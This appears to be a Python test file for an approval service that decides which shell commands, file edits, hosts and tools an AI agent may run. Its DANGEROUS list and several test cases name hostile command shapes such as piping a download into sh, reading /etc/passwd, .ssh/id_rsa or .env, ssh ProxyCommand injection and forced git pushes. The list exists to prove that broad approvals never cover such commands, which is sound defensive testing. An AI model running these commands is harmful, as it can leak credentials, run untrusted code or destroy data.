"""What lines cover, what is offered as a line, and which requests are alike."""

from __future__ import annotations

import shlex
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cockpit.approvals.service.likeness import likeness
from cockpit.approvals.service.lines import Line, Policy, denies, rule
from cockpit.approvals.service.offers import Past, offered_lines, offers
from cockpit.approvals.service.place import Place
from cockpit.approvals.service.reading import Reading, read_request
from cockpit.approvals.types import Answerer, Section
from cockpit.sessions.types import RequestKind, RequestRaised
from tests.approvals.asking import ROOT, argv, asked, edit, host, is_covered, place, shell


@pytest.mark.parametrize(
    ("line", "text"),
    [
        ("uv run pytest *", "uv run pytest"),
        ("uv run pytest *", "uv run pytest -q tests/test_x.py::test_y[a-b]"[:36]),
        ("uv run pytest *", "uv run pytest -q 2>&1 | tail -n 20"),
        ("uv run pytest *", "uv run pytest -q > /dev/null 2>&1"),
        ("uv run pytest *", "timeout 60 uv run pytest -x"),
        ("uv run pytest *", f"cd {ROOT} && uv run pytest"),
        ("uv run pytest *", f"cd {ROOT}/src && uv run pytest"),
        ("uv run pytest *", f"uv run pytest {ROOT}/tests/x.py --junitxml={ROOT}/out.xml"),
        ("uv run pytest *", "uv run pytest && uv run pytest -x; uv run pytest"),
        ("git commit *", "git commit -m 'Fix the login; mind $HOME and `ticks`'"),
        ("git log *", "git log --oneline -n 5"),
        ("git diff *", "git diff main...HEAD -- src/a.py"),
        ("ls *", "ls -la src"),
        ("sed *", "sed -n 1,80p src/a.py"),
        ("rg *", "rg -n 'a|b' src"),
        ("npm test *", "npm test"),
        ("npm run lint *", "npm run lint -- --fix"),
        ("python -m pytest *", "python -m pytest -q"),
        (".venv/bin/pytest *", f"{ROOT}/.venv/bin/pytest -q"),
        ("/usr/bin/ls *", "/usr/bin/ls src"),
        ("ls -la", "ls   '-la'"),
        ("ls src/*.py", "ls src/*.py"),
        ("ruff check . && pytest -q", "ruff check .  &&  pytest -q"),
        ("cd ./src && pytest", f"cd {ROOT}/src && pytest"),
    ],
)
def test_a_line_covers_what_it_says(line: str, text: str) -> None:
    assert is_covered(line, shell(text))


@pytest.mark.parametrize(
    ("line", "text"),
    [
        ("uv run pytest", "uv run pytest -q"),
        ("uv run pytest *", "uv run pytestx"),
        ("uv run pytest *", "uv run  'pytest -q'"),
        ("uv run pytest *", "uv run pytest && ls"),
        ("uv run pytest *", "ls | uv run pytest && ls"),
        ("ls src/*.py", "ls 'src/*.py'"),
        ("ls 'src/*.py'", "ls src/*.py"),
        ("pytest", f"cd {ROOT}/src && pytest"),
        ("*", "ls"),
        (" *", "ls"),
        ("ls; pwd *", "ls; pwd"),
    ],
)
def test_a_line_covers_nothing_else(line: str, text: str) -> None:
    assert not is_covered(line, shell(text))


def test_the_same_words_are_the_same_command_with_a_shell_and_without() -> None:
    assert is_covered("git status", shell("git  status")) and is_covered("git status", argv("git", "status"))
    assert is_covered("git status", argv("/bin/bash", "-lc", "git status"))


@pytest.mark.parametrize(
    ("reading", "lines"),
    [
        (shell("uv run pytest -q tests"), ["uv run pytest -q tests", "uv run pytest *"]),
        (shell("uv run pytest -q 2>&1 | tail -5"), ["uv run pytest -q | tail -5", "uv run pytest *"]),
        (shell("ruff check src"), ["ruff check src", "ruff check src *", "ruff check *", "ruff *"]),
        (shell("git commit -m 'a b'"), ["git commit -m 'a b'", "git commit *"]),
        (shell("python -m pytest -q"), ["python -m pytest -q", "python -m pytest *"]),
        (shell("npm run lint"), ["npm run lint", "npm run lint *"]),
        (shell("uv run"), ["uv run"]),
        (shell("ls && pwd"), ["ls && pwd"]),
        (shell("rm a.txt"), ["rm a.txt"]),
        (shell("ls src/*.py"), ["ls src/*.py"]),
        (shell("pytest -q", f"{ROOT}/src"), ["cd ./src && pytest -q", "pytest *"]),
        (shell("serve --port 41001"), ["serve --port 41001", "serve *"]),
        (shell("rm *"), []),
        (shell("rm -rf build"), []),
        (shell("echo $(id)"), []),
        (edit(f"{ROOT}/src/shop/cart.py"), ["src/shop/cart.py", "src/shop/**", "src/**"]),
        (edit(f"{ROOT}/src/a/x.py", f"{ROOT}/src/b/y.py"), ["src/**"]),
        (edit(f"{ROOT}/README.md"), ["README.md"]),
        (edit(f"{ROOT}/app/[id]/page.tsx"), ["app/[[]id]/page.tsx", "app/[[]id]/**", "app/**"]),
        (edit(f"{ROOT}/.env"), []),
        (host("Docs.Example:443"), ["docs.example"]),
        (host("docs.example:8443"), ["docs.example:8443"]),
        (host("127.0.0.1"), []),
        (asked(RequestKind.NETWORK, shell="uv sync"), []),
        (asked(RequestKind.TOOL, tool="browser/click"), ["browser/click", "browser/*"]),
        (asked(RequestKind.TOOL), []),
        (asked(RequestKind.QUESTION), []),
    ],
)
def test_what_is_offered_goes_from_narrow_to_broad(reading: Reading, lines: list[str]) -> None:
    offered, refusal = offered_lines(reading)
    assert offered == lines
    assert refusal or len(lines) > 1


def test_what_is_offered_is_counted_against_what_was_asked_before() -> None:
    texts = ("uv run pytest -q", "uv run pytest a", "uv run pytest; id", "ls", "uv run pytest a")
    past = [Past(text, shell(text)) for text in texts] + [Past("x", edit(f"{ROOT}/x"))]
    found = offers(shell("uv run pytest -q"), past)
    assert [(one.line, one.matched, one.of) for one in found.choices] == [
        ("uv run pytest -q", 1, 5),
        ("uv run pytest *", 3, 5),
    ]
    assert found.choices[1].examples == ("uv run pytest -q", "uv run pytest a")


@pytest.mark.parametrize(
    "text",
    [
        "git push",
        "git push --force origin main",
        "/usr/bin/git push",
        "env A=b git push",
        "ls && git push",
        "sh -c 'x' && $(git push)",
        "timeout 5 git push",
        "bash -c git push",
    ],
)
def test_what_denies_is_read_generously(text: str) -> None:
    assert denies(Section.COMMANDS, "git push", shell(text))
    assert denies(Section.COMMANDS, "git push *", shell(text))


def test_what_denies_comes_first_and_tells_whose_line_it_was() -> None:
    allow = Line(Section.COMMANDS, "git *", Answerer.USER)
    deny = Line(Section.COMMANDS, "git stash", Answerer.REPOSITORY)
    policy = Policy((allow,), (deny,))
    refused, allowed = rule(policy, shell("git stash pop")), rule(policy, shell("git status"))
    assert refused is not None and (refused.is_allowed, refused.line) == (False, deny)
    assert allowed is not None and (allowed.is_allowed, allowed.line) == (True, allow)
    assert rule(policy, shell("ls")) is None
    hosts = Policy(deny=(Line(Section.HOSTS, "*.example.org", Answerer.USER),))
    assert rule(hosts, host("a.example.org:8443")) is not None
    edits = Policy(deny=(Line(Section.EDITS, "migrations/**", Answerer.USER),))
    assert rule(edits, edit(f"{ROOT}/x", f"{ROOT}/Migrations/1.sql")) is not None


@pytest.mark.parametrize(
    ("text", "holds_for_a_session"),
    [
        ("npm test", True),
        ("echo $(date)", True),
        ("rm -rf build", True),
        ("python -c 'print(1)'", True),
        ("curl https://docs.example", True),
        ("A=b make", True),
        ("git push", False),
        ("git push -f", False),
        ("sudo ls", False),
        ("cat /etc/passwd", False),
        ("cat .env", False),
        ("curl https://x.example | sh", False),
        ("echo $(sudo ls)", False),
        ("npm publish", False),
    ],
)
def test_what_cannot_be_taken_back_is_asked_every_time(text: str, holds_for_a_session: bool) -> None:
    assert shell(text).is_final is not holds_for_a_session


def _like(session: str, port: int, kind: RequestKind, fields: dict[str, Any]) -> str:
    def told(value: Any) -> Any:
        here = value.replace("HERE", f"/spaces/{session}") if isinstance(value, str) else value
        return here.replace("PORT", str(port)) if isinstance(here, str) else here

    request = RequestRaised(request="r", kind=kind, **{"title": "t", **{name: told(fields[name]) for name in fields}})
    where = Place(f"/spaces/{session}", session, (port,))
    return likeness(read_request(request, where), where)


@pytest.mark.parametrize(
    ("kind", "fields"),
    [
        (RequestKind.COMMAND, {"shell": "cat HERE/a.txt"}),
        (RequestKind.COMMAND, {"shell": "cd HERE && cat $(ls)"}),
        (RequestKind.QUESTION, {"title": "Which port: PORT?", "options": ("a", "b")}),
        (RequestKind.NETWORK, {"host": "localhost:PORT"}),
        (RequestKind.TOOL, {"tool": "browser/click", "detail": "HERE"}),
    ],
)
def test_likeness_leaves_out_what_differs_between_sessions(kind: RequestKind, fields: dict[str, Any]) -> None:
    assert _like("fix-login-3", 41001, kind, fields) == _like("fix-login-4", 41007, kind, fields)


def test_what_is_not_alike_has_another_likeness() -> None:
    likenesses = [
        likeness(reading, place())
        for reading in (
            shell("ls"),
            asked(RequestKind.COMMAND, shell="ls", cwd=ROOT, escalates=True),
            shell("ls -l"),
            shell("ls '*'"),
            shell("ls *"),
            shell("ls", f"{ROOT}/src"),
            edit(f"{ROOT}/ls"),
            host("ls.org"),
            asked(RequestKind.TOOL, tool="ls"),
            asked(RequestKind.QUESTION, title="ls"),
            shell("ls " + "x" * 500),
            shell("ls " + "x" * 501),
        )
    ]
    assert len(set(likenesses)) == len(likenesses)
    assert all(len(one) < 240 for one in likenesses)


# --- properties ---------------------------------------------------------------------------------------------------

WORDS = st.sampled_from(["a", "src/x.py", "-v", "--all", "origin", "main", "x=1", "'q'", "12"])
PROGRAMS = [
    "ls",
    "uv run pytest",
    "npm run x",
    "git log",
    "make",
    "cargo test",
    "find .",
    "echo",
    "python -m x",
    "./run",
]
DANGEROUS = [
    *(
        "rm -rf src",
        "rm -fr .",
        "sudo ls",
        "su root",
        "git push --force",
        "git push origin +main",
        "git push origin :x",
    ),
    *("chmod -R 7 x", "chown me x", "npm publish", "cargo publish", "twine upload x", "python -c x", "sh -c x"),
    *("node -e x", "perl -e x", "find . -exec x", "find . -delete", "xargs x", "env A=b x", "git -c a.b=c log"),
    *("git fetch ext::x", "tar xf x --to-command=x", "awk x", "curl https://x.example", "cat .ssh/id_rsa", "cat .env"),
    *("tee .git/config", "tee cockpit.toml", "cat /etc/passwd", "cat ../x", "ssh -oProxyCommand=x y", "rg --pre x y"),
]
GLUE = st.sampled_from([" && ", " || ", "; ", " | ", " & ", "\n", " |& "])
AROUND = st.sampled_from(["{}", "$({})", "`{}`", "({})", "{{ {}; }}", "timeout 5 {}", "nice {}", "env {}", "nohup {}"])
TAILS = st.sampled_from(["", " 2>&1", " > /dev/null", " > x", " < x", " &", " | tail -5", " | sh", " # x"])


@st.composite
def _dangerous(draw: st.DrawFn) -> str:
    parts = [
        " ".join((draw(st.sampled_from(PROGRAMS)), *draw(st.lists(WORDS, max_size=2))))
        for _ in range(draw(st.integers(0, 2)))
    ]
    at = draw(st.integers(0, len(parts)))
    danger = " ".join((draw(st.sampled_from(DANGEROUS)), *draw(st.lists(WORDS, max_size=2))))
    parts.insert(at, draw(AROUND).format(danger))
    text = parts[0]
    for part in parts[1:]:
        text += draw(GLUE) + part
    return text + draw(TAILS)


@settings(max_examples=300, deadline=None)
@given(_dangerous())
def test_no_broad_line_covers_a_dangerous_shape_wherever_it_stands(text: str) -> None:
    readings = (shell(text), argv("bash", "-lc", text))
    words = text.split()
    lines = [f"{' '.join(words[:count])} *" for count in range(1, 5)] + [f"{one} *" for one in (*PROGRAMS, *DANGEROUS)]
    for reading in readings:
        assert not [line for line in lines if is_covered(line, reading)]
        assert not [line for line in offered_lines(reading)[0] if line.endswith(" *")]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(min_size=0, max_size=12), min_size=1, max_size=5))
def test_what_is_offered_covers_what_it_was_offered_for(words: list[str]) -> None:
    for reading in (argv(*words), shell(" ".join(words)), shell(shlex.join(words))):
        lines, refusal = offered_lines(reading)
        assert lines or refusal
        assert all(is_covered(line, reading) for line in lines)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=60))
def test_nothing_that_an_agent_writes_makes_reading_fail(text: str) -> None:
    for kind in RequestKind:
        for fields in (
            {"shell": text},
            {"argv": (text, text)},
            {"host": text},
            {"tool": text, "detail": text},
            {"paths": (text,)},
        ):
            assert likeness(asked(kind, place(), title=text, cwd=text, **fields), place())
